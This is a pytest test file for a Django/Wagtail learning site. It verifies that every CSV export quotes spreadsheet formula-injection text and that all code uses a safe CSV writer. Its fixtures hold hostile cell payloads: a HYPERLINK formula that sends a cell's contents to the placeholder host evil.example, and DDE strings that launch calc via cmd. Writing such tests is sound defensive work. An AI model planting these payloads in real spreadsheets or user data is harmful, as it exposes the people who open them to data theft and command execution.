"""Every CSV the site produces is safe to open in a spreadsheet.

The CSV views are found, not listed: every URL pattern whose view is a Wagtail spreadsheet
export with columns (``SpreadsheetExportMixin``: the orders report, site history, page
reports, redirects) and every view whose code answers ``text/csv`` (the register export,
the quiz item statistics). Hostile text (``=HYPERLINK(...)``, ``+``, ``-``, ``@``) is put
where each shows people's text; every export must come back with no cell a spreadsheet
would run as a formula, and with the hostile text itself, quoted.
"""

from __future__ import annotations

import csv
import inspect
import io
import re
from pathlib import Path

import pytest
from django.urls import URLResolver, get_resolver, reverse
from wagtail.admin.views.mixins import SpreadsheetExportMixin

from lms.safe_csv import FORMULA_TRIGGERS, PLAIN_NUMBER

HYPERLINK = '=HYPERLINK("https://evil.example/?"&A1,"Click")'
PLUS = "+cmd|' /C calc'!A0"
MINUS = "-2+3+cmd|' /C calc'!A0"
AT = "@SUM(1+1)*cmd|' /C calc'!A0"
ROOT = Path(__file__).resolve().parent.parent
CSV_WRITER = re.compile(r"(?<![\w.])csv\.(writer|DictWriter)\(")


def _walk(patterns, namespaces=()):
    for pattern in patterns:
        if isinstance(pattern, URLResolver):
            spaces = (*namespaces, pattern.namespace) if pattern.namespace else namespaces
            yield from _walk(pattern.url_patterns, spaces)
        else:
            yield ":".join((*namespaces, pattern.name or "")), pattern


def _answers_csv(callback) -> bool:
    view_class = getattr(callback, "view_class", None)
    if view_class is not None and issubclass(view_class, SpreadsheetExportMixin):
        initkwargs = getattr(callback, "view_initkwargs", None) or {}
        return bool(initkwargs.get("list_export", view_class.list_export))
    function = inspect.unwrap(callback)
    try:
        return "text/csv" in inspect.getsource(view_class or function)
    except (OSError, TypeError):
        return False


def csv_views() -> dict[str, object]:
    """URL name -> pattern, for every view that produces CSV."""
    return {
        name: pattern
        for name, pattern in _walk(get_resolver("lms.urls").url_patterns)
        if _answers_csv(pattern.callback)
    }


def _live_formulas(rows: list[list[str]]) -> list[str]:
    return [
        cell
        for row in rows
        for cell in row
        if cell.startswith(FORMULA_TRIGGERS) and not PLAIN_NUMBER.fullmatch(cell)
    ]


@pytest.fixture
def hostile_site(db, staff_user):
    """Hostile text wherever an export shows people's text."""
    from wagtail.contrib.redirects.models import Redirect
    from wagtail.models import Page

    from accreditation.models import AuditorProfile
    from cms.models import ContentPage
    from courses.payments import services as payments
    from tests.accreditation.factories import AccreditationFactory
    from tests.factories import OrganisationFactory, UserFactory
    from tests.payments.factories import CourseItemFactory
    from tests.quiz.factories import QuizFactory

    person = UserFactory(
        full_name=HYPERLINK,
        email="=cmd@example.org",
        is_superuser=True,
        organisation=OrganisationFactory(name=PLUS),
    )
    AccreditationFactory(
        auditor=AuditorProfile.objects.create(user=person, listed_consent=True),
        scope=[("casthouse", "CN")],
    )
    payments.order_create(
        buyer=person,
        lines=[payments.LineRequest(item=CourseItemFactory(price=(9000, None)))],
        method="invoice",
        currency="EUR",
        billing_name=MINUS,
        billing_address="1 Main Street",
    )
    home = Page.objects.get(depth=2)
    page = ContentPage(title=PLUS, slug="hostile")
    home.add_child(instance=page)
    page.save_revision(user=person).publish(user=person)
    page.locked, page.locked_by = True, person
    page.save(update_fields=["locked", "locked_by"])
    Redirect.objects.create(old_path="/hostile", redirect_link="https://example.org/@x")
    quiz = QuizFactory(title=AT)
    staff_user.is_superuser = True  # every report, whatever the secretariat's permissions
    staff_user.save(update_fields=["is_superuser"])
    return {"quiz_admin:statistics_detail": {"pk": quiz.pk}}


# What each export shows of the hostile text above (at least one of these, quoted).
EXPECTED = {
    "accreditation:register_csv": {HYPERLINK},
    "members:learning_csv": {HYPERLINK, PLUS},
    "payments_orders:index": {MINUS, "=cmd@example.org"},
    "wagtailadmin_reports:site_history": {PLUS, HYPERLINK},
    "wagtailadmin_reports:aging_pages": {PLUS, HYPERLINK},
    "wagtailadmin_reports:locked_pages": {PLUS, HYPERLINK},
    "quiz_admin:statistics_detail": {AT},
}


def test_the_search_for_csv_views_finds_the_known_exports():
    found = csv_views()

    assert set(EXPECTED) <= set(found), set(EXPECTED) - set(found)


@pytest.mark.django_db
def test_every_csv_view_neutralises_spreadsheet_formulas_and_keeps_the_text(
    hostile_site, staff_client
):
    problems = []
    for name in sorted(csv_views()):
        url = reverse(name, kwargs=hostile_site.get(name, {}))
        query = "?format=csv" if name == "quiz_admin:statistics_detail" else "?export=csv"
        response = staff_client.get(url + query)
        if response.status_code != 200 or "text/csv" not in response["Content-Type"]:
            problems.append(f"{name}: {response.status_code} {response['Content-Type']}")
            continue
        body = b"".join(response.streaming_content) if response.streaming else response.content
        rows = list(csv.reader(io.StringIO(body.decode("utf-8"))))
        if formulas := _live_formulas(rows):
            problems.append(f"{name}: live formulas {formulas}")
        cells = {cell for row in rows for cell in row}
        expected = EXPECTED.get(name.removesuffix("_results"), set())
        if expected and not {"'" + text for text in expected} & cells:
            problems.append(f"{name}: none of {expected} in {sorted(cells)[:20]}")
    assert not problems, "\n".join(problems)


def test_no_code_of_ours_writes_csv_without_the_safe_writer():
    """Producers use lms.safe_csv; only importers read with the csv module."""
    offenders = []
    for folder in ("lms", "cms", "courses", "accreditation"):
        for path in (ROOT / folder).rglob("*.py"):
            if path.name == "safe_csv.py" or "migrations" in path.parts:
                continue
            if CSV_WRITER.search(path.read_text(encoding="utf-8")):
                offenders.append(str(path.relative_to(ROOT)))
    assert not offenders, offenders
